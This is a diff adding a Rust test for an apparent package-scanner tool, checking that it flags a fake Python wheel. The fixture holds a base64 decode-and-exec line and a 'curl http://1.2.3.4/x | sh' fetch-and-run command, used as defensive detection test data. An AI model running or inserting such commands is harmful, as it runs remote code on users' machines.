@@ -749,6 +749,21 @@ mod tests {
                 && is_own("yaml", "pyyaml")
                 && !is_own("requests", "sgx")
         );
+        // scan's code rules over a non-popular package's files: warnings at most
+        let code = wheel_file(
+            dir.path(),
+            "sgcode",
+            &[(
+                "sgcode/__init__.py",
+                "import base64, os\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl http://1.2.3.4/x | sh')\n",
+            )],
+        );
+        let found = wheel(&code, "sgcode", "1.0", "w");
+        assert!(!found.is_empty(), "{found:?}");
+        assert!(found
+            .iter()
+            .all(|f| f.severity <= Severity::Warning && f.file == "w/sgcode/__init__.py"));
+        assert!(found.iter().any(|f| f.rule == Rule::DecodeExec));
         // a name that contains a popular package's still may not install it
         let extra = wheel_file(
             dir.path(),
